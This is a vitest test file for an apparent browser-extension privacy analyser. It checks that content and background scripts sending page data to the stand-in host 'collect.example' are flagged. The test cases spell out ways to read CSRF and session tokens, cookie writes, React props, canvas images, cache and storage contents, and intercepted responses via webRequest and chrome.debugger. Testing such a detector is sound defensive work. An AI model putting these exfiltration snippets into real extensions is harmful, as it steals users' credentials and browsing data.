import { describe, expect, it } from 'vitest';
import { verdictOn } from '../../../test/matrix/extension/verdict.ts';

const MANIFEST = JSON.stringify({
  manifest_version: 3,
  name: 'A',
  version: '1',
  host_permissions: ['<all_urls>'],
  background: { service_worker: 'bg.js' },
  content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }],
});

/** Flows of an extension to the network, by what is read. */
async function read(content: string, background = ''): Promise<readonly string[]> {
  const files = { 'manifest.json': MANIFEST, 'content.js': content, 'bg.js': background };
  return (await verdictOn(files, 'private', 'network')).flows;
}

const SEND = "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(data) });";

describe('what a page has and is told', () => {
  it.each([
    "caches.match('/me').then((answer) => answer.text()).then((data) => { SEND });",
    "caches.open('v1').then((store) => store.keys()).then((data) => { SEND });",
    "navigator.storage.getDirectory().then((root) => root.getFileHandle('notes')).then((one) => one.getFile()).then((data) => { SEND });",
    "const data = performance.getEntriesByType('resource').map((one) => one.name); SEND",
    "navigation.addEventListener('navigate', (event) => { const data = event.destination.url; SEND });",
    'const data = document.title; SEND',
    "const data = document.querySelector('#p').getAttribute('value'); SEND",
    "const data = document.querySelector('canvas').toDataURL(); SEND",
    "const data = document.querySelector('meta[name=csrf-token]').content; SEND",
    "const data = document.querySelector('meta[name=csrf-token]').getAttribute('content'); SEND",
    'const data = document.body.dataset.sessionToken; SEND',
    "Object.defineProperty(document, 'cookie', { set(data) { SEND } });",
    "const box = document.querySelector('#root'); const name = Object.keys(box).find((one) => one.startsWith('__reactProps')); const data = box[name].children; SEND",
    'const range = new Range(); range.selectNodeContents(document.body); const data = range.toString(); SEND',
  ])('is followed: %s', async (script) => {
    expect(await read(script.replace('SEND', SEND))).not.toEqual([]);
  });
  it.each([
    // Its own canvas and element; the page's place on the screen; what does not name a token.
    "const own = document.createElement('canvas'); const data = own.toDataURL(); SEND",
    "const own = document.createElement('div'); own.dataset.sessionToken = 'a'; const data = own.offsetWidth; SEND",
    'const data = performance.now(); SEND',
    "const data = document.querySelector('meta[name=viewport]').content; SEND",
    "Object.defineProperty(own, 'cookie', { set(data) { SEND } });",
  ])('is let be: %s', async (script) => {
    expect(await read(script.replace('SEND', SEND))).toEqual([]);
  });
});

describe('what the browser tells of pages', () => {
  it.each([
    "chrome.webRequest.onBeforeRequest.addListener((one) => { const filter = browser.webRequest.filterResponseData(one.requestId); filter.ondata = (event) => { const data = new TextDecoder().decode(event.data); SEND filter.write(event.data); }; }, { urls: ['<all_urls>'] }, ['blocking']);",
    "chrome.debugger.sendCommand({ tabId: 1 }, 'Runtime.evaluate', { expression: 'document.body.innerText' }, (data) => { SEND });",
    'chrome.debugger.onEvent.addListener((from, method, told) => { const data = told.response.payloadData; SEND });',
  ])('is followed: %s', async (script) => {
    expect(await read('', script.replace('SEND', SEND))).not.toEqual([]);
  });
  it('is not told where it is only handed on', async () => {
    const script =
      "chrome.webRequest.onBeforeRequest.addListener((one) => { const filter = browser.webRequest.filterResponseData(one.requestId); filter.ondata = (event) => filter.write(event.data); }, { urls: ['<all_urls>'] }, ['blocking']);";
    expect(await read('', script)).toEqual([]);
  });
});
